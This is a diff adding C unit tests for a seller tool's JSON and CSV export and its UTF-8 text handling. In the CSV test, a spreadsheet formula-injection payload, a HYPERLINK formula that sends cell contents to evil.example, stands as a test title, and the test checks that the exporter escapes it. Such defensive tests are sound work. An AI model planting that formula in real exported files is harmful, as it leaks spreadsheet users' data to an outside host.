@@ -1,5 +1,5 @@
 /*
- * test_view.c: the seller's view (view/filter.h, time.h).
+ * test_view.c: the seller's view (view/filter.h, export.h, time.h, text.h).
  *
  * Filters and sorts are checked against a second, naive implementation written here from the
  * documented vocabulary: a few thousand random records (every input known and unknown, ties
@@ -7,7 +7,9 @@
  * random queries spelled the three ways (CLI, config, URL); the selection must equal the
  * reference's, element for element, and every filter must have excluded and kept records in
  * some query (a filter that never bites would pass vacuously). Parse errors name the key as
- * written. Times go to ISO 8601 and back as the C library's gmtime says.
+ * written. JSON is parsed back with jansson and held to the field table (types, units in the
+ * names, values); CSV is parsed by a strict RFC 4180 reader written here and by Python's csv
+ * module, and a formula-looking title comes back as text.
  */
 #include <errno.h>
 #include <inttypes.h>
@@ -18,13 +20,20 @@
 #include <string.h>
 #include <strings.h>
 #include <time.h>
+#include <unistd.h>
+
+#ifdef VW_HAVE_JANSSON
+#include <jansson.h>
+#endif
 
 #include "judge/inputs.h"
 #include "judge/judge.h"
 #include "judge/market.h"
 #include "kd_test.h"
 #include "store/codec.h"
+#include "view/export.h"
 #include "view/filter.h"
+#include "view/text.h"
 #include "view/time.h"
 
 #define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))
@@ -1056,6 +1065,600 @@ static void test_time_iso(void **state)
             fail_msg("'%s' was accepted", bad[i]);
 }
 
+/* ---- JSON ---- */
+
+static bool has_unit_suffix(const char *name)
+{
+    static const char *const units[] = {"_cents", "_bp", "_ms", "_min", "_g", "_mm"};
+    size_t n = strlen(name);
+    for (size_t i = 0; i < ARRAY_LEN(units); i++) {
+        size_t s = strlen(units[i]);
+        if (n > s && strcmp(name + n - s, units[i]) == 0)
+            return true;
+    }
+    return false;
+}
+
+/* Integers that are counts, ranks, ids or codes: no unit to carry. */
+static bool unitless_count(const char *name)
+{
+    static const char *const names[] = {
+        "domain",         "category_id", "buy_condition", "sales_rank",       "drops30",
+        "drops90",        "drops180",    "drops365",      "monthly_sold",     "offers_new",
+        "offers_used",    "offers_fba",  "offers_fbm",    "competing_offers", "monthly_sales",
+        "check_failures", "revision",    "bought_qty"};
+    for (size_t i = 0; i < ARRAY_LEN(names); i++)
+        if (strcmp(name, names[i]) == 0)
+            return true;
+    return false;
+}
+
+/* The output's column names in order: the field table with each time's ISO twin. */
+static size_t column_names(char names[][48], size_t max)
+{
+    size_t n = 0;
+    for (size_t i = 0; i < vw_field_count(); i++) {
+        const struct vw_field_info *f = vw_field(i);
+        assert_true(n + 2 <= max);
+        snprintf(names[n++], 48, "%s", f->name);
+        if (f->type == VW_T_TIME) {
+            size_t len = strlen(f->name);
+            assert_true(len > 3 && strcmp(f->name + len - 3, "_ms") == 0);
+            snprintf(names[n++], 48, "%.*s", (int)(len - 3), f->name);
+        }
+    }
+    return n;
+}
+
+static void iso_ms_of(int64_t ms, char *buf, size_t len)
+{
+    char head[32];
+    time_t s = (time_t)(ms / 1000);
+    struct tm tm;
+    gmtime_r(&s, &tm);
+    strftime(head, sizeof(head), "%Y-%m-%dT%H:%M:%S", &tm);
+    snprintf(buf, len, "%s.%03dZ", head, (int)(ms % 1000));
+}
+
+#ifdef VW_HAVE_JANSSON
+static bool valid_utf8(const char *s)
+{
+    return vw_utf8_clean(s, false, (char[3 * ST_TITLE_MAX + 1]){0}, 3 * ST_TITLE_MAX + 1) ==
+               strlen(s) &&
+           strstr(s, "\xEF\xBF\xBD") == NULL;
+}
+
+static void check_json_record(json_t *o, const struct st_record *r, const struct jd_rules *rules)
+{
+    assert_true(json_is_object(o));
+    /* Every field of the table, nothing else, each of its type or null. */
+    size_t n_fields = 0;
+    for (size_t i = 0; i < vw_field_count(); i++) {
+        const struct vw_field_info *f = vw_field(i);
+        json_t *v = json_object_get(o, f->name);
+        if (v == NULL)
+            fail_msg("field %s missing", f->name);
+        n_fields++;
+        bool ok = json_is_null(v);
+        switch (f->type) {
+        case VW_T_STRING:
+            ok |= json_is_string(v);
+            break;
+        case VW_T_INTEGER:
+            ok |= json_is_integer(v);
+            if (!has_unit_suffix(f->name) && !unitless_count(f->name))
+                fail_msg("integer field %s carries no unit", f->name);
+            break;
+        case VW_T_BOOLEAN:
+            ok |= json_is_boolean(v);
+            break;
+        case VW_T_TIME: {
+            ok |= json_is_integer(v);
+            assert_true(has_unit_suffix(f->name));
+            char twin[48];
+            snprintf(twin, sizeof(twin), "%.*s", (int)strlen(f->name) - 3, f->name);
+            json_t *iso = json_object_get(o, twin);
+            assert_non_null(iso);
+            n_fields++;
+            if (json_is_null(v)) {
+                assert_true(json_is_null(iso));
+            } else {
+                char want[40];
+                iso_ms_of(json_integer_value(v), want, sizeof(want));
+                assert_string_equal(json_string_value(iso), want);
+            }
+            break;
+        }
+        case VW_T_LIST:
+            ok |= json_is_array(v);
+            break;
+        case VW_T_REASONS:
+            ok |= json_is_array(v);
+            break;
+        }
+        if (!ok)
+            fail_msg("field %s has the wrong JSON type", f->name);
+    }
+    assert_int_equal(json_object_size(o), n_fields);
+
+    /* Values. */
+    assert_string_equal(json_string_value(json_object_get(o, "asin")), r->asin);
+    json_t *profit = json_object_get(o, "profit_cents");
+    if (r->v.priced)
+        assert_int_equal(json_integer_value(profit), r->v.profit_cents);
+    else
+        assert_true(json_is_null(profit));
+    json_t *rank = json_object_get(o, "sales_rank");
+    if (r->in.sales_rank > 0)
+        assert_int_equal(json_integer_value(rank), r->in.sales_rank);
+    else
+        assert_true(json_is_null(rank));
+    json_t *drops = json_object_get(o, "drops30");
+    if (r->in.drops30 >= 0)
+        assert_int_equal(json_integer_value(drops), r->in.drops30);
+    else
+        assert_true(json_is_null(drops));
+    int64_t m;
+    json_t *monthly = json_object_get(o, "monthly_profit_cents");
+    if (ref_monthly(r, &m))
+        assert_int_equal(json_integer_value(monthly), m);
+    else
+        assert_true(json_is_null(monthly));
+    assert_int_equal(json_is_true(json_object_get(o, "amazon_on_listing")), ref_amazon(r));
+    json_t *hz = json_object_get(o, "hazmat");
+    if (r->in.hazmat == 1 || r->in.hazmat == 0)
+        assert_int_equal(json_is_true(hz), r->in.hazmat == 1);
+    else
+        assert_true(json_is_null(hz));
+    const struct jd_market *mk = jd_market(r->domain);
+    char url[128];
+    snprintf(url, sizeof(url), "https://%s/dp/%s", mk->host, r->asin);
+    assert_string_equal(json_string_value(json_object_get(o, "amazon_url")), url);
+    snprintf(url, sizeof(url), "https://keepa.com/#!product/%u-%s", r->domain, r->asin);
+    assert_string_equal(json_string_value(json_object_get(o, "keepa_url")), url);
+    assert_string_equal(json_string_value(json_object_get(o, "currency")), mk->currency);
+    const char *title = json_string_value(json_object_get(o, "title"));
+    if (r->title[0] == '\0')
+        assert_null(title);
+    else if (valid_utf8(r->title))
+        assert_string_equal(title, r->title);
+    else
+        assert_non_null(strstr(title, "\xEF\xBF\xBD"));
+    if (r->in.buy_condition > 0)
+        assert_string_equal(json_string_value(json_object_get(o, "buy_condition_name")),
+                            jd_condition_name(r->in.buy_condition));
+    const char *cat = json_string_value(json_object_get(o, "category_name"));
+    const char *want_cat =
+        r->category_name[0] ? r->category_name : jd_category_name(r->domain, r->in.root_category);
+    if (want_cat != NULL && r->in.root_category > 0)
+        assert_string_equal(cat, want_cat);
+    /* The reasons: every criterion, in words, re-judged under the rules. */
+    json_t *reasons = json_object_get(o, "reasons");
+    if (rules == NULL) {
+        assert_true(json_is_null(reasons));
+        return;
+    }
+    struct jd_verdict j;
+    jd_judge(&r->in, rules, &j);
+    assert_int_equal(json_array_size(reasons), JD_C_COUNT);
+    for (unsigned c = 0; c < JD_C_COUNT; c++) {
+        json_t *one = json_array_get(reasons, c);
+        char text[200];
+        jd_format_criterion(&j, c, r->domain, text, sizeof(text));
+        assert_string_equal(json_string_value(json_object_get(one, "criterion")), jd_crit_name(c));
+        assert_string_equal(json_string_value(json_object_get(one, "state")),
+                            jd_state_name(j.crit[c].state));
+        assert_string_equal(json_string_value(json_object_get(one, "text")), text);
+        assert_int_equal(json_is_true(json_object_get(one, "fails")), (j.fails >> c) & 1);
+        if (c == JD_C_ROI && j.crit[c].state == JD_PASS) {
+            assert_int_equal(json_integer_value(json_object_get(one, "value")), j.roi_bp);
+            assert_string_equal(json_string_value(json_object_get(one, "unit")), "bp");
+        }
+    }
+}
+#endif
+
+static char *run_to_memory(int (*write)(FILE *, const struct st_record *, const size_t *, size_t,
+                                        const struct vw_out *),
+                           const struct st_record *recs, size_t n, const struct vw_out *o,
+                           size_t *len)
+{
+    char *buf = NULL;
+    FILE *mem = open_memstream(&buf, len);
+    assert_non_null(mem);
+    assert_int_equal(write(mem, recs, NULL, n, o), 0);
+    assert_int_equal(fclose(mem), 0);
+    return buf;
+}
+
+static void test_json_parses_back(void **state)
+{
+    (void)state;
+#ifndef VW_HAVE_JANSSON
+    kd_test_skip("jansson is not installed");
+#else
+    enum { N = 400 };
+    struct st_record *recs = random_records(N);
+    struct jd_rules rules;
+    jd_rules_default(&rules);
+    for (int with_rules = 0; with_rules < 2; with_rules++) {
+        struct vw_out o = {.rules = with_rules ? &rules : NULL};
+        size_t len;
+        char *text = run_to_memory(vw_json_write, recs, N, &o, &len);
+        json_error_t jerr;
+        json_t *doc = json_loadb(text, len, 0, &jerr);
+        if (doc == NULL)
+            fail_msg("JSON does not parse: %s at %d", jerr.text, jerr.position);
+        assert_int_equal(json_array_size(doc), N);
+        for (size_t i = 0; i < N; i++)
+            check_json_record(json_array_get(doc, i), &recs[i], o.rules);
+        json_decref(doc);
+        free(text);
+    }
+    /* JSON lines: one object per line. */
+    struct vw_out o = {.rules = &rules, .json_lines = true};
+    size_t len;
+    char *text = run_to_memory(vw_json_write, recs, N, &o, &len);
+    size_t lines = 0;
+    for (char *line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n")) {
+        json_error_t jerr;
+        json_t *obj = json_loads(line, 0, &jerr);
+        assert_non_null(obj);
+        check_json_record(obj, &recs[lines], &rules);
+        json_decref(obj);
+        lines++;
+    }
+    assert_int_equal(lines, N);
+    free(text);
+    /* No records: an empty array. */
+    text = run_to_memory(vw_json_write, recs, 0, NULL, &len);
+    assert_string_equal(text, "[]\n");
+    free(text);
+    free(recs);
+#endif
+}
+
+#ifdef VW_HAVE_JANSSON
+static int keep_first(const struct kp_product *p, void *ud)
+{
+    struct kp_product *out = ud;
+    if (out->asin[0] == '\0')
+        *out = *p;
+    return 0;
+}
+#endif
+
+/* The recorded real product as the committer would store it, out through JSON. */
+static void test_real_record_json(void **state)
+{
+    (void)state;
+#ifndef VW_HAVE_JANSSON
+    kd_test_skip("jansson is not installed");
+#else
+    const char *path = kd_fixture_path("product_B0D8W1YVBX.json");
+    if (path == NULL)
+        kd_test_skip("Keepa fixtures absent (KD_FIXTURES_DIR)");
+    size_t blen;
+    char *body = kd_read_file(path, &blen);
+    assert_non_null(body);
+    static struct kp_product p;
+    memset(&p, 0, sizeof(p));
+    struct kp_decode_cbs cbs = {.on_product = keep_first, .ud = &p};
+    char err[256];
+    assert_int_equal(kp_decode_buffer(body, blen, NULL, &cbs, NULL, err, sizeof(err)), 0);
+    free(body);
+    struct jd_rules rules;
+    jd_rules_default(&rules);
+    static struct st_record r;
+    st_record_init(&r);
+    memcpy(r.asin, p.asin, ST_ASIN_LEN);
+    r.asin[ST_ASIN_LEN] = '\0';
+    r.domain = 1;
+    jd_inputs_from_product(&p, &rules, 1778386768884, JD_READ_AUTO, &r.in);
+    jd_judge(&r.in, &rules, &r.v);
+    r.state = ST_STATE_REJECTED;
+    r.last_checked_ms = 1778386768884;
+    r.rules_hash = jd_rules_hash(&rules);
+    struct vw_out o = {.rules = &rules};
+    size_t len;
+    char *text = run_to_memory(vw_json_write, &r, 1, &o, &len);
+    json_error_t jerr;
+    json_t *doc = json_loadb(text, len, 0, &jerr);
+    assert_non_null(doc);
+    json_t *obj = json_array_get(doc, 0);
+    check_json_record(obj, &r, &rules);
+    /* What the judgement tests worked out by hand for this product, now readable by a program. */
+    assert_string_equal(json_string_value(json_object_get(obj, "amazon_url")),
+                        "https://www.amazon.com/dp/B0D8W1YVBX");
+    assert_string_equal(json_string_value(json_object_get(obj, "offers_url")),
+                        "https://www.amazon.com/gp/offer-listing/B0D8W1YVBX");
+    assert_int_equal(json_integer_value(json_object_get(obj, "category_id")), 3760911);
+    assert_string_equal(json_string_value(json_object_get(obj, "category_name")),
+                        "Beauty & Personal Care");
+    assert_int_equal(json_integer_value(json_object_get(obj, "monthly_sold")), 100000);
+    assert_int_equal(json_integer_value(json_object_get(obj, "sell_cents")), 1499);
+    assert_int_equal(json_integer_value(json_object_get(obj, "fee_referral_cents")), 225);
+    assert_int_equal(json_integer_value(json_object_get(obj, "fee_fba_cents")), 409);
+    assert_int_equal(json_integer_value(json_object_get(obj, "payout_cents")), 865);
+    assert_int_equal(json_integer_value(json_object_get(obj, "profit_cents")), -809);
+    assert_int_equal(json_integer_value(json_object_get(obj, "max_cost_cents")), 190);
+    assert_string_equal(json_string_value(json_object_get(obj, "sell_basis")), "buy_box");
+    assert_string_equal(json_string_value(json_object_get(obj, "buy_condition_name")), "New");
+    assert_true(json_is_false(json_object_get(obj, "heat_sensitive")));
+    assert_true(json_is_true(json_object_get(obj, "judged_by_current_rules")));
+    assert_string_equal(json_string_value(json_object_get(obj, "reason")), "roi");
+    json_t *profit_reason = json_array_get(json_object_get(obj, "reasons"), JD_C_PROFIT);
+    assert_string_equal(json_string_value(json_object_get(profit_reason, "text")),
+                        "profit -$8.09 vs $5.00: fail by $13.09");
+    assert_int_equal(json_integer_value(json_object_get(profit_reason, "margin")), -1309);
+    assert_string_equal(json_string_value(json_object_get(obj, "last_checked")),
+                        "2026-05-10T04:19:28.884Z");
+    json_decref(doc);
+    free(text);
+#endif
+}
+
+/* ---- CSV ---- */
+
+struct csv {
+    char ***rows; /* rows[i][j]: malloc'd cells */
+    size_t *n_cells;
+    size_t n_rows;
+};
+
+/* A strict RFC 4180 reader: CRLF rows, quoted cells with doubled quotes, nothing else. */
+static bool csv_parse(const char *s, struct csv *out)
+{
+    memset(out, 0, sizeof(*out));
+    size_t cap_rows = 0;
+    char **row = NULL;
+    size_t n = 0, cap = 0;
+    char *cell = malloc(strlen(s) + 1);
+    while (*s != '\0') {
+        size_t c = 0;
+        if (*s == '"') {
+            s++;
+            while (true) {
+                if (*s == '\0')
+                    return false; /* unterminated */
+                if (*s == '"') {
+                    if (s[1] == '"') {
+                        cell[c++] = '"';
+                        s += 2;
+                        continue;
+                    }
+                    s++;
+                    break;
+                }
+                cell[c++] = *s++;
+            }
+            if (*s != ',' && !(s[0] == '\r' && s[1] == '\n'))
+                return false; /* text after a closing quote */
+        } else {
+            while (*s != ',' && *s != '\r' && *s != '\n' && *s != '\0') {
+                if (*s == '"')
+                    return false; /* a quote inside an unquoted cell */
+                cell[c++] = *s++;
+            }
+            if (*s == '\n' || (*s == '\r' && s[1] != '\n') || *s == '\0')
+                return false; /* rows end with CRLF */
+        }
+        cell[c] = '\0';
+        if (n == cap) {
+            cap = cap ? 2 * cap : 64;
+            row = realloc(row, cap * sizeof(*row));
+        }
+        row[n++] = strdup(cell);
+        if (*s == ',') {
+            s++;
+            continue;
+        }
+        s += 2; /* CRLF */
+        if (out->n_rows == cap_rows) {
+            cap_rows = cap_rows ? 2 * cap_rows : 64;
+            out->rows = realloc(out->rows, cap_rows * sizeof(*out->rows));
+            out->n_cells = realloc(out->n_cells, cap_rows * sizeof(*out->n_cells));
+        }
+        out->rows[out->n_rows] = row;
+        out->n_cells[out->n_rows++] = n;
+        row = NULL;
+        n = cap = 0;
+    }
+    free(cell);
+    return row == NULL;
+}
+
+static void csv_free(struct csv *c)
+{
+    for (size_t i = 0; i < c->n_rows; i++) {
+        for (size_t j = 0; j < c->n_cells[i]; j++)
+            free(c->rows[i][j]);
+        free(c->rows[i]);
+    }
+    free(c->rows);
+    free(c->n_cells);
+}
+
+static bool is_integer(const char *s)
+{
+    if (*s == '-')
+        s++;
+    if (*s == '\0')
+        return false;
+    for (; *s; s++)
+        if (*s < '0' || *s > '9')
+            return false;
+    return true;
+}
+
+static void test_csv_reads_back(void **state)
+{
+    (void)state;
+    enum { N = 400 };
+    struct st_record *recs = random_records(N);
+    /* The formula-looking title, a negative profit and a loss in ROI in the first record. */
+    const char *evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Buy now\")";
+    st_record_set_title(&recs[0], evil, strlen(evil));
+    recs[0].v.priced = true;
+    recs[0].v.profit_cents = -809;
+    recs[0].v.roi_bp = -4833;
+    struct jd_rules rules;
+    jd_rules_default(&rules);
+    struct vw_out o = {.rules = &rules};
+    size_t len;
+    char *text = run_to_memory(vw_csv_write, recs, N, &o, &len);
+    struct csv c;
+    assert_true(csv_parse(text, &c));
+    char names[256][48];
+    size_t n_cols = column_names(names, ARRAY_LEN(names));
+    assert_int_equal(c.n_rows, N + 1);
+    for (size_t j = 0; j < n_cols; j++)
+        assert_string_equal(c.rows[0][j], names[j]);
+    size_t col_title = 0, col_profit = 0, col_roi = 0, col_asin = 0, col_checked = 0;
+    for (size_t j = 0; j < n_cols; j++) {
+        col_title = strcmp(names[j], "title") == 0 ? j : col_title;
+        col_profit = strcmp(names[j], "profit_cents") == 0 ? j : col_profit;
+        col_roi = strcmp(names[j], "roi_bp") == 0 ? j : col_roi;
+        col_asin = strcmp(names[j], "asin") == 0 ? j : col_asin;
+        col_checked = strcmp(names[j], "last_checked") == 0 ? j : col_checked;
+    }
+    for (size_t i = 1; i <= N; i++) {
+        const struct st_record *r = &recs[i - 1];
+        assert_int_equal(c.n_cells[i], n_cols);
+        assert_string_equal(c.rows[i][col_asin], r->asin);
+        /* Numbers stay numbers, negative ones included. */
+        if (r->v.priced) {
+            char want[32];
+            snprintf(want, sizeof(want), "%" PRId64, r->v.profit_cents);
+            assert_string_equal(c.rows[i][col_profit], want);
+            snprintf(want, sizeof(want), "%" PRId64, r->v.roi_bp);
+            assert_string_equal(c.rows[i][col_roi], want);
+        } else {
+            assert_string_equal(c.rows[i][col_profit], "");
+        }
+        if (r->last_checked_ms > 0) {
+            char want[40];
+            iso_ms_of(r->last_checked_ms, want, sizeof(want));
+            assert_string_equal(c.rows[i][col_checked], want);
+        }
+        /* No text cell starts like a formula; integer columns hold integers or nothing. */
+        for (size_t j = 0; j < n_cols; j++) {
+            const char *cell = c.rows[i][j];
+            if (is_integer(cell) || cell[0] == '\0')
+                continue;
+            if (strchr("=+-@\t\r", cell[0]) != NULL)
+                fail_msg("row %zu column %s starts a formula: %s", i, names[j], cell);
+        }
+    }
+    char want_title[128];
+    snprintf(want_title, sizeof(want_title), "'%s", evil);
+    assert_string_equal(c.rows[1][col_title], want_title);
+
+    /* Python's csv module reads the same cells. */
+    char path[512];
+    snprintf(path, sizeof(path), "%s/view.csv", kd_test_tmpdir());
+    FILE *f = fopen(path, "wb");
+    assert_non_null(f);
+    fwrite(text, 1, len, f);
+    fclose(f);
+    const char *py = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
+    char cmd[1024];
+    snprintf(cmd, sizeof(cmd),
+             "%s -c 'import csv,sys\n"
+             "rows=list(csv.reader(open(sys.argv[1],newline=\"\",encoding=\"utf-8\",errors="
+             "\"strict\")))\n"
+             "sys.stdout.buffer.write(\"\".join(\"%%d\\n\" %% len(r) + \"\".join(\"%%d:\" %% "
+             "len(x.encode()) + x for x in r) for r in rows).encode())' %s",
+             py, path);
+    FILE *p = popen(cmd, "r");
+    assert_non_null(p);
+    size_t rows_seen = 0;
+    for (size_t i = 0; i < c.n_rows; i++) {
+        size_t cells;
+        if (fscanf(p, "%zu\n", &cells) != 1)
+            fail_msg("python read %zu rows, want %zu", i, c.n_rows);
+        assert_int_equal(cells, c.n_cells[i]);
+        for (size_t j = 0; j < cells; j++) {
+            size_t bytes;
+            assert_int_equal(fscanf(p, "%zu:", &bytes), 1);
+            char *cell = malloc(bytes + 1);
+            assert_int_equal(fread(cell, 1, bytes, p), bytes);
+            cell[bytes] = '\0';
+            if (strcmp(cell, c.rows[i][j]) != 0)
+                fail_msg("row %zu cell %zu: python '%s', ours '%s'", i, j, cell, c.rows[i][j]);
+            free(cell);
+        }
+        rows_seen++;
+    }
+    assert_int_equal(pclose(p), 0);
+    assert_int_equal(rows_seen, N + 1);
+    csv_free(&c);
+    free(text);
+    free(recs);
+}
+
+static void test_csv_cells(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *in, *out;
+    } cases[] = {
+        {"plain", "plain"},
+        {"a,b", "\"a,b\""},
+        {"say \"hi\"", "\"say \"\"hi\"\"\""},
+        {"=1+1", "\"'=1+1\""},
+        {"+1", "\"'+1\""},
+        {"-1 day", "\"'-1 day\""},
+        {"@cmd", "\"'@cmd\""},
+        {"\tx", "\"'\tx\""},
+        {"\rx", "\"'\rx\""},
+        {"=\"x\",y", "\"'=\"\"x\"\",y\""},
+        {"line\nbreak", "\"line\nbreak\""},
+        {"a=1", "a=1"},
+        {"bad \xff", "bad \xEF\xBF\xBD"},
+        {"", ""},
+    };
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        char *buf = NULL;
+        size_t len = 0;
+        FILE *mem = open_memstream(&buf, &len);
+        vw_csv_text(mem, cases[i].in);
+        fclose(mem);
+        assert_string_equal(buf, cases[i].out);
+        free(buf);
+    }
+}
+
+/* ---- text ---- */
+
+static void test_text(void **state)
+{
+    (void)state;
+    char out[64];
+    assert_int_equal(vw_utf8_clean("ok \xc3\xa9", false, out, sizeof(out)), 5);
+    assert_string_equal(out, "ok \xc3\xa9");
+    vw_utf8_clean("\xc0\xaf \xed\xa0\x80 \xf4\x90\x80\x80 \xe2\x82", false, out, sizeof(out));
+    assert_string_equal(out, "\xEF\xBF\xBD\xEF\xBF\xBD \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD "
+                             "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD \xEF\xBF\xBD"
+                             "\xEF\xBF\xBD");
+    vw_utf8_clean("a\x1b[2Jb\x7f", true, out, sizeof(out));
+    assert_string_equal(out, "a [2Jb ");
+    /* Never a half character at the end of a full buffer. */
+    vw_utf8_clean("\xc3\xa9\xc3\xa9", false, out, 4);
+    assert_string_equal(out, "\xc3\xa9");
+    assert_int_equal(vw_text_width("\xe6\x97\xa5\xe6\x9c\xac"), 4);
+    assert_int_equal(vw_text_width("e\xcc\x81"), 1);
+    assert_int_equal(vw_text_width("\xe2\x82\xac"
+                                   "3.20"),
+                     5);
+    assert_int_equal(vw_text_fit("\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e", 4, out, sizeof(out)), 3);
+    assert_string_equal(out, "\xe6\x97\xa5\xe2\x80\xa6");
+    assert_int_equal(vw_text_fit("abcdef", 6, out, sizeof(out)), 6);
+    assert_string_equal(out, "abcdef");
+    assert_int_equal(vw_text_fit("abcdefg", 6, out, sizeof(out)), 6);
+    assert_string_equal(out, "abcde\xe2\x80\xa6");
+}
+
 int main(int argc, char **argv)
 {
     const struct CMUnitTest tests[] = {
@@ -1066,6 +1669,11 @@ int main(int argc, char **argv)
         cmocka_unit_test(test_vocabulary_spellings),
         cmocka_unit_test(test_format_round_trip),
         cmocka_unit_test(test_time_iso),
+        cmocka_unit_test(test_json_parses_back),
+        cmocka_unit_test(test_real_record_json),
+        cmocka_unit_test(test_csv_reads_back),
+        cmocka_unit_test(test_csv_cells),
+        cmocka_unit_test(test_text),
     };
     return KD_RUN_TESTS(tests, argc, argv);
 }
